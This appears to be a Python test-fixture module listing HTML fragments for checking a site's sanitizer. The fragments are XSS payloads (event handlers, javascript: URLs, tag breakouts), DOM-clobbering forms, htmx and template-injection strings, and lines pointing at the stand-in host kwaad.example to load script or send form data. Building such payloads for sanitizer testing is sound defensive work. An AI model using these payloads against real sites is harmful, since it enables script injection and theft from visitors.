"""Against what is ours: callouts, videos, pictures and their texts, anchors, names that our pages and scripts use."""

from itertools import product

MARK = "<img src=x onerror=alert(1)>"

# Every value that an attribute of ours may be given, in every attribute of ours

VALUES = [
    f'">{MARK}',
    f"'>{MARK}",
    f"&quot;>{MARK}",
    "x onclick=alert(1)",
    "x' onclick='alert(1)",
    "&#34; onclick=&#34;alert(1)",
    "javascript:alert(1)",
    "youtube:<script>alert(1)</script>",
    "youtube:dQw4w9WgXcQ' onload='alert(1)",
    "youtube:dQw4w9WgXcQ?autoplay=1&amp;x=//kwaad.example",
    "youtube:dQw4w9WgXcQ/../../kwaad",
    "vimeo:76979871#javascript:alert(1)",
    "vimeo:76979871\nonclick=alert(1)",
    "tip</aside><script>alert(1)</script>",
    "constructor",
    "\x00tip",
    "TIP WARNING",
]
OWN = [
    '<aside data-callout="{}"><p>x</p></aside>',
    '<figure data-video="{}"><figcaption>x</figcaption></figure>',
    '<figure><img src=/pictures/x/ alt="{}"></figure>',
    "<figure data-video='{}'></figure>",
]

VIDEOS = [
    f"<figure data-video=youtube:dQw4w9WgXcQ>{MARK}<figcaption>x</figcaption></figure>",
    f"<figure data-video=youtube:dQw4w9WgXcQ><figcaption>{MARK}</figcaption></figure>",
    "<figure data-video=youtube:dQw4w9WgXcQ><iframe src=//kwaad.example></iframe></figure>",
    "<figure data-video=youtube:dQw4w9WgXcQ><script>alert(1)</script><figcaption>x</figcaption></figure>",
    "<figure data-video=youtube:dQw4w9WgXcQ><a href=javascript:alert(1) data-player=javascript:alert(1)>x</a></figure>",
    "<figure data-video=vimeo:76979871><a href=https://vimeo.com/76979871 data-player=//kwaad.example/>x</a></figure>",
    "<figure data-video=vimeo:76979871><a href=https://vimeo.com/76979871 onclick=alert(1) target=_top>x</a>",
    "<figure data-video=vimeo:76979871><figcaption><figure data-video=youtube:dQw4w9WgXcQ><script>alert(1)</script>",
    "<figure data-video=vimeo:76979871><svg><style><figcaption></style><img src=x onerror=alert(1)>",
    "<figure data-video=vimeo:76979871><table><figcaption><td><img src=x onerror=alert(1)>",
    "<figure data-video=vimeo:76979871><figcaption><style></figcaption></figure><img src=x onerror=alert(1)></style>",
    "<figure data-video=vimeo:76979871 data-video=javascript:alert(1) data-player=javascript:alert(1)></figure>",
    "<figure DATA-VIDEO=JAVASCRIPT:alert(1) data-player='//kwaad.example'><figcaption>x</figcaption></figure>",
    "<a href=/x/><figure data-video=vimeo:76979871><a href=javascript:alert(1)>x</a></figure></a>",
    "<p><a href=/x/ onclick=alert(1)><figure data-video=vimeo:76979871><figcaption onclick=alert(1)>x",
    "<div data-video=youtube:dQw4w9WgXcQ data-player=//kwaad.example/>x</div>",
    "<a data-player='https://kwaad.example/' href='https://www.youtube.com/watch?v=dQw4w9WgXcQ'>x</a>",
    "<a href='https://www.youtube.com/redirect?q=https://kwaad.example' rel=noreferrer data-player>x</a>",
]

CALLOUTS = [
    f"<aside data-callout=tip>{MARK}</aside>",
    f"<aside data-callout=tip><table><td></aside>{MARK}",
    f"<aside data-callout=warning><svg><desc></aside>{MARK}",
    "<aside data-callout=tip onclick=alert(1) class=x id=x style=x:y><p>x</p></aside>",
    "<aside data-callout=tip data-callout=\"' onclick='alert(1)\"><p>x</p></aside>",
    "<p data-callout=tip>x</p><aside role=alert aria-live=assertive data-callout=warning><p>x</p></aside>",
    "<aside data-callout=tip><aside data-callout=example><aside data-callout=<script>alert(1)</script>>x",
]

CAPTIONS = [
    f"<figure><img src=/pictures/x/><figcaption>{MARK}</figcaption></figure>",
    f"<figcaption>{MARK}</figcaption>",
    f"<figure><figcaption><style></figcaption></figure>{MARK}</style>",
    f"<table><caption>{MARK}</caption><tr><td>x</table>",
    f"<table><caption><p title='</caption>{MARK}'>x</table>",
    f"<details><summary>{MARK}</summary>x</details>",
    "<img src=/pictures/x/ alt=x onload=alert(1) alt=y>",
    "<img alt='\n\"onerror=alert(1)\n' src=/pictures/x/>",
    "<img src=/pictures/x/ alt=`onerror=alert(1)>",
    '<img src=/pictures/x/ alt="`><script>alert(1)</script>">',
    "<img src=/pictures/x/ alt='<!--'>" + MARK + "<p title='-->'>",
    "<img src=/pictures/x/ usemap=#m><map name=m><area shape=default href=javascript:alert(1)></map>",
    "<img src=/pictures/x/ width=1 height=1 loading=eager crossorigin=use-credentials referrerpolicy=unsafe-url>",
    "<img src=/pictures/x/ style='width:100vw' longdesc=javascript:alert(1) sizes=1px srcset='//kwaad.example/x 1w'>",
]

# Names that would stand in the way of what pages and scripts ask the document for

CLOBBERED = (
    "attributes body children cookie createElement defaultView documentElement forms getElementById htmx".split()
)
CLOBBERED += "innerHTML location nodeName parentNode querySelector ran self submit __proto__ constructor".split()
CLOBBERING = [
    '<form id="{0}" name="{0}"><input name="{0}"></form>',
    '<a id="{0}"></a><a id="{0}" name="{0}" href="javascript:alert(1)">x</a>',
]
IN_THE_WAY = [
    "<p id=main>x</p><a href=#main>x</a>",
    "<h2 id=h-kop>Kop</h2><h2 id=h-kop>Kop</h2>",
    "<p data-hx-post=/author/ data-hx-trigger=load hx-vals=js:alert(1)>x</p>",
    "<div hx-on::load=alert(1) hx-on:click=alert(1)>x</div>",
    "<div hx-get=/account/logout/ hx-swap-oob=true id=completion>x</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>x",
    '<script type=importmap>{"imports":{"x":"//kwaad.example/x.js"}}</script>x',
    '<script type=speculationrules>{"prefetch":[{"urls":["//kwaad.example"]}]}</script>x',
    "<input type=hidden name=csrfmiddlewaretoken value=x form=completion>",
    "<button form=completion formaction=//kwaad.example formmethod=get>Afronden</button>",
    "<textarea form=completion name=html>x</textarea>",
    "<label for=password>Wachtwoord<input type=password name=password autocomplete=current-password></label>",
    "<details name=x open><summary accesskey=x>x</summary><p inert contenteditable spellcheck>y</p></details>",
    "{{ request.user.password }} {% debug %} {{ html|safe }}",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "[[alert(1)]] <p ng-app ng-csp>{{$on.constructor('alert(1)')()}}</p>",
    "<p v-html=\"'<img src=x onerror=alert(1)>'\" x-init=alert(1) @click=alert(1) :href=javascript:x>x</p>",
    "<p lang=nl xml:lang=en xmlns=http://www.w3.org/1999/xhtml xml:base=javascript:alert(1)>x</p>",
    "<p itemscope itemtype=//kwaad.example about=x property=x vocab=x>x</p>",
    "<span part=x exportparts=x slot=x is=x-kwaad nonce=x>x</span>",
    "<noscript><meta http-equiv=refresh content='0;url=//kwaad.example'></noscript>",
    "<marquee behavior=alternate><blink>x</blink></marquee>",
]

FRAGMENTS = [
    *(node.format(value) for node, value in product(OWN, VALUES)),
    *VIDEOS,
    *CALLOUTS,
    *CAPTIONS,
    *(way.format(name) for way, name in product(CLOBBERING, CLOBBERED)),
    *IN_THE_WAY,
]
